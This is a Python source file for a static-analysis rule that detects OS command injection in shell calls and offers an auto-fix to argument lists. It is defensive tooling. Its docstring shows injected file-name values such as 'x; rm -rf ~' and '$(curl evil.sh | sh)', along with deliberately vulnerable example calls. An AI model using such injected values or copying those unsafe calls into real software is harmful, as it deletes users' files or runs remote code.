"""Command injection: a shell command built from a non-literal value.

## What it does
Flags `os.system`, `os.popen`, `subprocess.getoutput`/`getstatusoutput`, `commands.getoutput`,
`asyncio.create_subprocess_shell`, and `subprocess.run`/`call`/`check_call`/`check_output`/`Popen`
with `shell=True`, or an argument list that starts a shell (`["sh", "-c", command]`, also held
in a variable, and in `os.exec*`/`os.spawn*`/`asyncio.create_subprocess_exec` arguments:
`os.execl("/bin/sh", "sh", "-c", command)`), and a program chosen by web-request data, when
untrusted data reaches the command, as the dataflow core follows it
(variables, branches, containers, same-file helpers): data from a web request or an event
payload (high confidence), or the function's own arguments built into a command string (medium).
A command that folds to a constant (`cmd = helper("echo")` where `helper` returns a literal),
one quoted with `shlex.quote`, or a call in a branch that can never run is not flagged; an
HTML escaper does not make a command safe.

## Why is this bad?
The shell interprets the whole string: a file name like `x; rm -rf ~` or `$(curl evil.sh | sh)`
runs a second command with the program's rights. Quoting by hand is easy to get wrong; passing
an argument list without a shell leaves nothing to interpret.

## Example
```python
subprocess.run(f"convert {upload} -resize 50% thumb.png", shell=True)
os.system("ping -c 1 " + host)
```

## Use instead
```python
subprocess.run(["convert", upload, "-resize", "50%", "thumb.png"], check=True)
subprocess.run(["ping", "-c", "1", host], check=True)
```
The quick fix rewrites a `subprocess` call with `shell=True` to an argument list with
`shell=False`, when the literal parts split into words without shell syntax (pipes, redirects,
variables, globs) and each interpolated value is a whole word. A command built in a variable of
the same function is rewritten together with the call, if the variable is used nowhere else.

## References
- [CWE-78: OS Command Injection](https://cwe.mitre.org/data/definitions/78.html)
- Bandit B602, B605, B609; Ruff S602, S605, S609
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterable

from tree_sitter import Node

from landguard.checks.python import _support as py
from landguard.checks.python._dispatch import CallRule
from landguard.engine.document import Document
from landguard.engine.findings import Confidence, Finding, Fix, Severity
from landguard.engine.registry import CheckContext, Rule
from landguard.fixes.python_fixes import StatementEditor, call_with_keyword, parse_expression, string_parts
from landguard.languages import python_syntax as syntax

RULE = Rule(
    id="LG202",
    name="command-injection",
    title="Shell command built from a non-literal value",
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(78,),
    docs=__doc__,
    languages=py.PYTHON,
    aliases=("B602", "S602", "B605", "S605", "B609", "S609"),
)

_ALWAYS_SHELL = frozenset(
    {
        "os.system",
        "os.popen",
        "os.popen2",
        "os.popen3",
        "os.popen4",
        "subprocess.getoutput",
        "subprocess.getstatusoutput",
        "commands.getoutput",
        "commands.getstatusoutput",
        "asyncio.create_subprocess_shell",
    }
)
_SHELL_OPTIONAL = frozenset(
    {
        "subprocess.run",
        "subprocess.call",
        "subprocess.check_call",
        "subprocess.check_output",
        "subprocess.Popen",
    }
)
# Program-and-arguments launchers: where the program is, and where its argument vector starts
# (an index into the positional arguments; "list" = that argument is the vector).
_EXEC_FAMILY = {
    **{f"os.exec{v}": (0, 1, v.startswith("v")) for v in ("l", "le", "lp", "lpe", "v", "ve", "vp", "vpe")},
    **{f"os.spawn{v}": (1, 2, v.startswith("v")) for v in ("l", "le", "lp", "lpe", "v", "ve", "vp", "vpe")},
    "asyncio.create_subprocess_exec": (0, 0, False),
}
_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell", "pwsh"})
_CALLEES = frozenset(name.rsplit(".", 1)[-1] for name in _ALWAYS_SHELL | _SHELL_OPTIONAL | set(_EXEC_FAMILY))
# Literal text the fix may split into words: no pipes, redirects, variables, globs, escapes.
_PLAIN_WORDS = re.compile(r"^[\w\s\-./:,@+=%'\"]*$")


class CommandInjectionCheck(CallRule):
    rule = RULE
    kind = "command"
    callee_names = _CALLEES

    def check_call(
        self, call: Node, name: str, unit: Node, document: Document, context: CheckContext
    ) -> Iterable[Finding]:
        if name in _ALWAYS_SHELL:
            via = f"`{name}` runs the command through a shell"
        elif name in _SHELL_OPTIONAL:
            shell = syntax.keyword_arg(call, "shell")
            if (
                shell is None
                or syntax.is_false(shell)
                or not (syntax.is_true(shell) or syntax.is_identifier(shell))
            ):
                argv = syntax.argument(call, 0, "args")
                yield from self._shell_in_argv(call, name, argv, None, unit, document, context)
                return
            via = f"`{name}(..., shell=True)` runs the command through a shell"
        elif name in _EXEC_FAMILY:
            yield from self._exec_family(call, name, unit, document, context)
            return
        else:
            return
        command = syntax.argument(call, 0, "cmd") or syntax.keyword_arg(call, "args")
        if command is None or syntax.is_literal(command):
            return
        flow = self.flow_for(call, unit, context)
        values = syntax.resolve(command, flow)
        if all(syntax.is_literal(v) for v in values):
            return  # a variable that holds a constant command
        if syntax.sequence_items(command) is not None and name in _SHELL_OPTIONAL:
            return  # an argument list: with shell=True only its first item is the command
        build = syntax.string_building(command, flow)
        imports = py.scope_imports(call, document, context)
        taint = py.taint(command, flow, imports, "command")
        if taint == py.Taint.REQUEST:
            confidence = Confidence.HIGH
        elif taint == py.Taint.PARAMETER and build is not None:
            confidence = (
                Confidence.MEDIUM
            )  # built from the caller's data: a wrapper that runs what it is given is not
        else:
            return  # a constant, quoted, or nothing from outside the function reaches it
        fixes = []
        if name in _SHELL_OPTIONAL and build is not None:
            fix = _argument_list_fix(call, command, build, document, flow, context)
            if fix is not None:
                fixes.append(fix)
        source = " from the web request" if taint == py.Taint.REQUEST else ""
        yield RULE.finding(
            document.node_span(call),
            f"{via}, and the command is built from a value{source} that is not a literal; "
            "pass an argument list without a shell",
            confidence=confidence,
            fixes=fixes,
        )

    def _exec_family(
        self, call: Node, name: str, unit: Node, document: Document, context: CheckContext
    ) -> Iterable[Finding]:
        """`os.execl("/bin/sh", "sh", "-c", cmd)`, `os.spawnv(mode, path, argv)`,
        `asyncio.create_subprocess_exec("sh", "-c", cmd)`; and a program chosen by the request."""
        if syntax.has_star_args(call):
            return
        program_at, argv_at, vector = _EXEC_FAMILY[name]
        positional = syntax.positional_args(call)
        if len(positional) <= max(program_at, argv_at):
            return
        program = positional[program_at]
        flow = self.flow_for(call, unit, context)
        imports = py.scope_imports(call, document, context)
        if py.request_reaches(program, flow, imports, "command"):
            yield RULE.finding(
                document.node_span(call),
                f"`{name}` runs a program chosen by web-request data; pick it from a fixed set instead",
                confidence=Confidence.HIGH,
            )
            return
        if vector:
            argv: Node | list[Node] = positional[argv_at]
        else:
            argv = positional[argv_at:]
            if name.endswith(("le", "lpe")):
                argv = argv[:-1]  # the last argument is the environment
        yield from self._shell_in_argv(call, name, argv, program, unit, document, context)

    def _shell_in_argv(
        self,
        call: Node,
        name: str,
        argv: Node | list[Node] | None,
        program_node: Node | None,
        unit: Node,
        document: Document,
        context: CheckContext,
    ) -> Iterable[Finding]:
        """`subprocess.run(["sh", "-c", command])`: an argument list that starts a shell."""
        flow = self.flow_for(call, unit, context)
        if argv is None:
            return
        if not isinstance(argv, list):
            values = syntax.resolve(argv, flow)  # argv = ["sh", "-c", command]; run(argv)
            argv = py.unparenthesize(values[0]) if len(values) == 1 else argv
            items = syntax.sequence_items(argv)
            if items is None:
                return
            argv = [c for c in items if not syntax.is_comment(c)]
        items = argv
        if len(items) < 3:
            return
        executable = syntax.literal_string_value(program_node) if program_node is not None else None
        program = (executable or syntax.literal_string_value(items[0]) or "").rsplit("/", 1)[-1]
        if program not in _SHELLS or syntax.literal_string_value(items[1]) not in ("-c", "/c"):
            return
        taint = py.taint(items[2], flow, py.scope_imports(call, document, context), "command")
        if taint == py.Taint.REQUEST or (
            taint == py.Taint.PARAMETER and syntax.string_building(items[2], flow)
        ):
            yield RULE.finding(
                document.node_span(call),
                f"`{name}` starts `{program} -c` with a command built from "
                + ("web-request data" if taint == py.Taint.REQUEST else "the function's arguments")
                + "; the shell interprets it: pass the program and its arguments as the list instead",
                confidence=Confidence.HIGH if taint == py.Taint.REQUEST else Confidence.MEDIUM,
            )


def argument_words(parts: list[str | tuple[str]], *, stringify: bool) -> list[str] | None:
    """Python expressions, one per argument, for a command given as literal text and expressions.

    ``stringify`` wraps values in ``str()``, as an f-string or ``%`` formatting did implicitly.
    """
    items: list[str | tuple[str]] = []
    for part in parts:  # adjacent literals ("ls " + "-la") are one piece of text
        if isinstance(part, str) and items and isinstance(items[-1], str):
            items[-1] = items[-1] + part
        else:
            items.append(part)
    # Quotes directly around a whole interpolated value only grouped it for the shell: drop them.
    for index, item in enumerate(items):
        if isinstance(item, tuple) and 0 < index < len(items) - 1:
            before, after = items[index - 1], items[index + 1]
            if isinstance(before, str) and isinstance(after, str) and before[-1:] in ("'", '"'):
                if after[:1] != before[-1:]:
                    return None
                items[index - 1], items[index + 1] = before[:-1], after[1:]
    words: list[str] = []
    previous_ends_word = True
    for index, item in enumerate(items):
        if isinstance(item, tuple):
            following = items[index + 1] if index + 1 < len(items) else ""
            if not previous_ends_word or (
                isinstance(following, str) and following[:1] and not following[0].isspace()
            ):
                return None  # glued to literal text (`--out={x}`): not a whole word
            if not isinstance(following, str):
                return None  # two values glued together
            words.append(f"str({item[0]})" if stringify else item[0])
            previous_ends_word = True
            continue
        if not _PLAIN_WORDS.match(item):
            return None
        try:
            literal_words = shlex.split(item)
        except ValueError:
            return None
        if item and not item[0].isspace() and index > 0:
            return None  # literal text glued to the previous value
        words.extend(f'"{word}"' if '"' not in word else repr(word) for word in literal_words)
        previous_ends_word = not item or item[-1].isspace()
    return words if words else None


def _argument_list_fix(
    call: Node,
    command: Node,
    build: syntax.StringBuild,
    document: Document,
    flow: syntax.Flow,
    context: CheckContext,
) -> Fix | None:
    import libcst as cst

    if syntax.has_star_args(call):
        return None
    if build.via is not None and not syntax.variable_only_feeds(command, build, flow):
        return None  # the command string is used elsewhere too: rewriting it could break that use
    parts = string_parts(document.node_text(build.node))
    if parts is None:
        return None
    words = argument_words(parts.items, stringify=build.kind != "concat")
    if words is None:
        return None
    argument_list = parse_expression("[" + ", ".join(words) + "]")
    if argument_list is None:
        return None
    edits = []
    if build.via is not None:
        assignment_editor = StatementEditor.for_node(document, build.via.statement)
        old_value = assignment_editor.locate(build.node, cst.BaseExpression) if assignment_editor else None
        if assignment_editor is None or old_value is None:
            return None
        assignment_editor.replace(old_value, argument_list)
        assignment_edit = assignment_editor.text_edit()
        if assignment_edit is None:
            return None
        edits.append(assignment_edit)
    editor = StatementEditor.for_node(document, call)
    target = editor.locate(call, cst.Call) if editor else None
    if editor is None or target is None or not target.args:
        return None
    first = target.args[0]
    if first.keyword is not None:
        return None
    args = (
        [first.with_changes(value=argument_list), *target.args[1:]]
        if build.via is None
        else list(target.args)
    )
    new_call = call_with_keyword(target.with_changes(args=args), "shell", cst.Name("False"))
    editor.replace(target, new_call)
    edit = editor.text_edit()
    if edit is None:
        return None
    edits.append(edit)
    # Unsafe: pipes, globs and variables the shell expanded no longer are.
    return Fix(
        "Pass an argument list without a shell (shell=False)", tuple(edits), preferred=True, unsafe=True
    )


CHECK = CommandInjectionCheck()
